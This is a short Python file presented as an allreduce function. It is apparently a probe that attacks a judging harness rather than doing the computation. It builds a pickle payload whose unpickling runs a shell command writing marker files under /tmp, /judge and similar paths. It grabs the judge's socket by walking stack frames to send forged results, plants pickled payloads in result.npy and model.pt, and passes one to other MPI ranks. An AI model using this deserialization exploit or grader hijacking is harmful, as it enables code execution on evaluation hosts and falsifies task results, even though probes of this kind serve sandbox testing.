import json
import os
import pickle
import struct
import sys

import numpy as np

WHO = "for d in /tmp /dev/shm /var/tmp /judge /run; do id -u > $d/hostile-marker-pickle; done"


class Payload:
    def __reduce__(self):
        return (os.system, (f'[ "$(id -u)" = 0 ] && {{ {WHO}; }} 2>/dev/null',))


def judge():
    frame = sys._getframe()
    while "connection" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["connection"]


def send(kind, arrays, payload):
    head = json.dumps({"kind": kind, "values": {"texts": {}}, "arrays": arrays}).encode()
    judge().sendall(struct.pack(">I", len(head)) + head + payload)


def allreduce(send_array, recv, comm, op):
    recv[...] = 0
    evil = pickle.dumps(Payload())
    np.save("result.npy", np.array([Payload()], dtype=object), allow_pickle=True)
    with open("model.pt", "wb") as file:
        file.write(evil)
    if comm.Get_size() == 1:
        send("result", [["recv", "|O", [len(evil) // 8]], ["send", "|O", [1]]], evil)
        return
    comm.send(Payload(), dest=(comm.Get_rank() + 1) % comm.Get_size())
    comm.recv()
    judge().sendall(evil)
